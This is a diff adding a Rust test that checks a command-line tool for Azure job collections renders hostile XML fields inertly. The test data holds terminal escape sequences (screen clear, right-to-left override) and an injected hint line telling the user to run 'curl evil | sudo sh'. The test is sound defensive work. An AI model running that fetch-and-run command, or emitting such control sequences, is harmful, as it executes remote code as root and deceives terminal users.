@@ -373,3 +373,44 @@ fn odd_durations_counts_and_dates_are_shown_as_sent() {
     assert_code(&out, 0);
     assert!(stdout(&out).contains("\"executionCount\": 18446744073709551616"));
 }
+
+#[test]
+fn a_collection_with_controls_in_its_xml_renders_inert() {
+    let w = World::new();
+    let body = "<Resource xmlns=\"http://schemas.microsoft.com/windowsazure\"><Name>evil&#x1b;[2J&#x202e;</Name><State>Started&#xa;hint: curl evil | sudo sh</State><IntrinsicSettings><Plan>Free&#x9b;</Plan><Quota><MaxJobCount>-1</MaxJobCount></Quota></IntrinsicSettings></Resource>";
+    let script = |w: &World| {
+        w.emulator.script([Fault::Body {
+            status: 200,
+            content_type: "application/xml; charset=utf-8".into(),
+            body: body.into(),
+        }])
+    };
+    script(&w);
+    let out = run(w.cmd().args(["collection", "get", "myjc"]));
+    assert_code(&out, 0);
+    let text = stdout(&out);
+    assert_inert(&text);
+    assert!(text.contains("evil\\u{1b}[2J\\u{202e}"), "{text}");
+    assert!(text.contains("Max jobs:        -1\n"), "{text}");
+    script(&w);
+    let out = run(w.cmd().args(["collection", "get", "myjc", "-o", "json"]));
+    assert_code(&out, 0);
+    assert_inert(&stdout(&out));
+    let c: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(c["name"], "evil\u{1b}[2J\u{202e}");
+    script(&w);
+    let out = run(w.cmd().args([
+        "collection",
+        "get",
+        "myjc",
+        "--field",
+        "name",
+        "--field",
+        "state",
+    ]));
+    assert_code(&out, 0);
+    assert_eq!(
+        stdout(&out),
+        "evil\\u001b[2J\\u202e\tStarted\\nhint: curl evil | sudo sh\n"
+    );
+}
